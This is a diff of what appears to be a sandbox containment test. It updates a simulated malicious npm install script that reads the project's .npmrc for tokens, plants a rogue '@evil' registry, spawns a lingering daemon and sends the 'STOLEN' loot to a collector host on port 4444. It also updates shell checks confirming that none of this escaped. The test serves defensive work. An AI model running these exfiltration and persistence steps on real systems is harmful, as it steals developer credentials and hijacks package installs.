@@ -94,6 +94,9 @@ try {
 // A registry of ours in the project's .npmrc: the next run would allow it (exfiltration, and
 // dependency confusion for a scope).
 try { fs.appendFileSync(root + '/.npmrc', '\n@evil:registry=http://$collector_ip:4444/\n'); } catch (e) {}
+// What it could read, left in the project (checked from outside: no token may be in it).
+try { loot += fs.readFileSync(root + '/.npmrc', 'utf8'); } catch (e) { loot += 'no project .npmrc '; }
+try { fs.writeFileSync(root + '/loot.txt', loot); } catch (e) {}
 const d = cp.spawn('sh', ['-c', 'sleep 300', '$daemon_mark'], {detached: true, stdio: 'ignore'});
 d.unref();
 const s = net.connect(4444, '$collector_ip', () => { s.end('STOLEN ' + loot); });
@@ -161,6 +164,8 @@ check_evil_pkg_contained() {
   [ -s "$collog" ] && fail "$what: the collector received: $(head -c 300 "$collog")"
   [ "$(sha256sum < "$home/.bashrc")" = "$bashrc_before" ] || fail "$what: ~/.bashrc changed"
   [ -s "$project/.git/hooks/pre-commit" ] && fail "$what: .git/hooks/pre-commit was dropped"
+  grep -q "TOKEN-CANARY" "$project/loot.txt" 2>/dev/null &&
+    fail "$what: the install script read a token: $(grep -o '[^ ]*TOKEN-CANARY[^ ]*' "$project/loot.txt" | head -3)"
   grep -q "$collector_ip" "$project/.npmrc" 2>/dev/null &&
     fail "$what: the project's .npmrc names the collector: $(cat "$project/.npmrc")"
   pgrep -f "$daemon_mark" >/dev/null && fail "$what: the daemon survived moat"
